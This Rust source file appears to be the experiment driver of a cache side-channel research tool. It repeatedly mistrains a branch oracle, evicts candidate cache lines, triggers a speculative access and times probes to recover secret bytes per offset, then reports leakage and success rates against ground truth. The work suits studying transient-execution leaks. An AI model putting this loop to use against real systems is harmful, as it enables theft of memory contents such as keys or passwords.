//! Repetitions over the offset range, one classification episode per offset.

use crate::batch::{Alphabet, Batch};
use crate::classification::{ClassificationEngine, ClassificationOutcome, EpisodeState};
use crate::config::ExperimentConfig;
use crate::export::{ResultMatrix, ResultStore};
use crate::ExperimentError;
use cache_side_channel::{EvictionStrategy, Oracle, TimingOracle};
use leakage_statistics::{ExperimentStats, RepetitionStats};
use log::{debug, info, log_enabled, warn, Level};
use serde::{Deserialize, Serialize};
use std::time::Instant;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum OffsetResult {
    Recovered {
        outcome: ClassificationOutcome,
        attempts: u32,
    },
    /// The retry budget ran out before a batch was accepted.
    NoConfidence { offset: usize, attempts: u32 },
}

impl OffsetResult {
    pub fn offset(&self) -> usize {
        match self {
            OffsetResult::Recovered { outcome, .. } => outcome.offset,
            OffsetResult::NoConfidence { offset, .. } => *offset,
        }
    }

    pub fn byte(&self) -> Option<u8> {
        match self {
            OffsetResult::Recovered { outcome, .. } => Some(outcome.winner),
            OffsetResult::NoConfidence { .. } => None,
        }
    }

    pub fn attempts(&self) -> u32 {
        match self {
            OffsetResult::Recovered { attempts, .. }
            | OffsetResult::NoConfidence { attempts, .. } => *attempts,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RepetitionOutcome {
    pub stats: RepetitionStats,
    pub results: Vec<OffsetResult>,
}

impl RepetitionOutcome {
    /// Recovered bytes in offset order, `None` where nothing was accepted.
    pub fn secret(&self) -> Vec<Option<u8>> {
        self.results.iter().map(OffsetResult::byte).collect()
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ExperimentReport {
    pub config: ExperimentConfig,
    pub repetitions: Vec<RepetitionOutcome>,
    pub stats: ExperimentStats,
}

pub struct ExperimentDriver<O, T, E> {
    config: ExperimentConfig,
    engine: ClassificationEngine,
    oracle: O,
    timer: T,
    evictor: E,
    store: Option<ResultStore>,
}

impl<O: Oracle, T: TimingOracle, E: EvictionStrategy> ExperimentDriver<O, T, E> {
    pub fn new(
        config: ExperimentConfig,
        oracle: O,
        timer: T,
        evictor: E,
    ) -> Result<Self, ExperimentError> {
        config.validate()?;
        let store = if config.store {
            Some(ResultStore::new(&config.output_dir, config.histogram_scale)?)
        } else {
            None
        };
        Ok(ExperimentDriver {
            engine: ClassificationEngine::new(config.scope, config.min_confidence),
            config,
            oracle,
            timer,
            evictor,
            store,
        })
    }

    pub fn config(&self) -> &ExperimentConfig {
        &self.config
    }

    fn candidate_addresses(&self) -> Vec<*const u8> {
        let base = self.oracle.base_address();
        self.config
            .alphabet
            .iter()
            .map(|c| base.wrapping_add(c as usize * self.config.stride))
            .collect()
    }

    /// Take `trials` samples of every candidate for `offset`.
    ///
    /// The oracle is prepared once per slice of candidates: settle, mistrain,
    /// evict the slice, trigger the side effect, then probe the slice in
    /// ascending order.
    fn collect(
        &mut self,
        offset: usize,
        batch: &mut Batch,
        addresses: &[*const u8],
    ) -> Result<(), ExperimentError> {
        let alphabet = self.config.alphabet;
        let slices: Vec<_> = alphabet.slices(self.config.slice_length).collect();
        for _ in 0..self.config.trials {
            for slice in &slices {
                for _ in 0..self.config.settle_iterations {
                    std::hint::spin_loop();
                }
                for _ in 0..self.config.mistrain_rounds {
                    self.oracle.mistrain();
                }
                let targets = &addresses[slice.clone()];
                self.evictor.evict(targets);
                #[cfg(target_arch = "x86_64")]
                cache_utils::lfence();
                self.oracle.configure(offset);
                for (i, &addr) in slice.clone().zip(targets) {
                    // Candidate pages belong to the oracle and prefetches
                    // never fault.
                    let t = unsafe { self.timer.measure(addr) };
                    batch.record(alphabet.candidate(i), t)?;
                }
            }
        }
        Ok(())
    }

    fn log_candidates(&self, batch: &Batch, truth: Option<u8>) {
        if !log_enabled!(Level::Debug) {
            return;
        }
        for r in self.engine.report(batch) {
            debug!(
                "{:>4} {:>10.2} (min: {:5}, min count: {:3}, max: {:5}){}",
                Alphabet::label(r.candidate),
                r.mean,
                r.min,
                r.min_count,
                r.max,
                if truth == Some(r.candidate) { " *" } else { "" }
            );
        }
    }

    /// Classify one offset, retrying until a batch is accepted or the retry
    /// budget is spent.
    pub fn recover_offset(
        &mut self,
        offset: usize,
        matrix: &mut ResultMatrix,
    ) -> Result<OffsetResult, ExperimentError> {
        debug!("----- Offset: {} -----", offset);
        let truth = self.config.truth(offset);
        let addresses = self.candidate_addresses();
        let mut batch = Batch::new(self.config.alphabet, self.config.trials);
        let mut attempts = 0u32;
        let mut state = EpisodeState::Collecting;

        loop {
            state = match state {
                EpisodeState::Collecting => {
                    self.collect(offset, &mut batch, &addresses)?;
                    attempts += 1;
                    self.engine.step(state, offset, &mut batch)
                }
                EpisodeState::Evaluating => {
                    self.log_candidates(&batch, truth);
                    self.engine.step(state, offset, &mut batch)
                }
                EpisodeState::Retry => {
                    if self.config.max_retries.is_some_and(|max| attempts > max) {
                        warn!(
                            "Offset {}: no confident guess after {} attempts",
                            offset, attempts
                        );
                        if let Some(store) = &self.store {
                            store.write_batch(offset, truth, &batch)?;
                        }
                        return Ok(OffsetResult::NoConfidence { offset, attempts });
                    }
                    info!("Rerun offset {} (attempt {})", offset, attempts + 1);
                    self.engine.step(state, offset, &mut batch)
                }
                EpisodeState::Accepted(outcome) => {
                    debug!(
                        "Offset {}: {} ({} votes){}",
                        offset,
                        Alphabet::label(outcome.winner),
                        outcome.confidence,
                        match truth {
                            Some(t) if t == outcome.winner => " correct",
                            Some(_) => " wrong",
                            None => "",
                        }
                    );
                    matrix.record(offset, self.engine.min_counts(&batch));
                    if let Some(store) = &self.store {
                        store.write_batch(offset, truth, &batch)?;
                    }
                    return Ok(OffsetResult::Recovered { outcome, attempts });
                }
            };
        }
    }

    /// `reruns` passes over the offset range.
    pub fn run_repetition(&mut self) -> Result<RepetitionOutcome, ExperimentError> {
        let offsets = self.config.offsets.clone();
        let mut matrix = ResultMatrix::new(offsets.clone(), self.config.alphabet);
        let mut results = Vec::with_capacity(offsets.len() * self.config.reruns);
        let mut recovered = 0;
        let mut correct = 0;

        let begin = Instant::now();
        for _ in 0..self.config.reruns {
            for offset in offsets.clone() {
                let result = self.recover_offset(offset, &mut matrix)?;
                if let Some(byte) = result.byte() {
                    recovered += 1;
                    if self.config.truth(offset) == Some(byte) {
                        correct += 1;
                    }
                }
                results.push(result);
            }
        }
        let elapsed = begin.elapsed();

        if let Some(store) = &self.store {
            store.write_matrix(&matrix)?;
        }
        let bytes_correct = self.config.ground_truth.as_ref().map(|_| correct);
        Ok(RepetitionOutcome {
            stats: RepetitionStats::new(elapsed, recovered, bytes_correct),
            results,
        })
    }

    pub fn run(&mut self) -> Result<ExperimentReport, ExperimentError> {
        let total = self.config.repetitions;
        let mut repetitions = Vec::with_capacity(total);
        for i in 0..total {
            let outcome = self.run_repetition()?;
            let stats = &outcome.stats;
            info!(
                "({:4}/{:4}) Time: {:.3} s, Recovered: {} B, Success Rate: {}, Leakage Rate: {:.2} B/s",
                i + 1,
                total,
                stats.elapsed.as_secs_f64(),
                stats.bytes_recovered,
                stats
                    .success_rate()
                    .map_or("n/a".to_owned(), |r| format!("{:.2}%", r)),
                stats.leakage_rate
            );
            repetitions.push(outcome);
        }
        let stats = ExperimentStats::from_repetitions(
            &repetitions.iter().map(|r| r.stats).collect::<Vec<_>>(),
        )?;
        let report = ExperimentReport {
            config: self.config.clone(),
            repetitions,
            stats,
        };
        if let Some(store) = &self.store {
            store.write_report(&report)?;
        }
        Ok(report)
    }
}

/// Log the aggregate of an experiment.
pub fn log_summary(stats: &ExperimentStats) {
    info!("===== Global Statistics =====");
    info!("Repetitions: {}", stats.repetitions);
    info!(
        "Time: {:.3} s (+- {:.3})",
        stats.time.mean, stats.time.std_deviation
    );
    info!(
        "Leakage Rate: {:.2} B/s (+- {:.2}), max {:.2} B/s",
        stats.leakage_rate.mean, stats.leakage_rate.std_deviation, stats.max_leakage_rate
    );
    match stats.success_rate {
        Some(s) => info!("Success Rate: {:.2}% (+- {:.2})", s.mean, s.std_deviation),
        None => info!("Success Rate: n/a (no ground truth)"),
    }
}
